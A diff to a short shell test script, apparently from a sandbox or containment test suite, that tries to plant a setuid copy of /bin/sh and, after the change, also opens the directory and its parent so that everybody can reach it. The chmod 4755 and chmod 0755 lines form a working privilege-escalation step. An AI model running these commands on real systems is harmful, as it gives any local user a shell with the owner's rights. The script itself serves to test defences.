@@ -1,7 +1,9 @@
-# title: leave a program on its desk that runs with its owner's rights
+# title: leave a program that runs with its owner's rights where everybody reaches it
 # class: writes
 # prevented: kernel
 # detected: -
 # logged: no
 . "$(dirname "$0")/facts.sh"
-cp /bin/sh "$DESK/$MARK" && chmod 4755 "$DESK/$MARK" && [ -u "$DESK/$MARK" ] && echo "GOT: a setuid shell"
+cp /bin/sh "$DESK/$MARK" && chmod 4755 "$DESK/$MARK" || exit 1
+chmod 0755 "$DESK" "$DESK/.."
+[ -u "$DESK/$MARK" ] && find "$DESK/.." -maxdepth 0 -perm -1 | grep -q . && echo "GOT: a setuid shell"
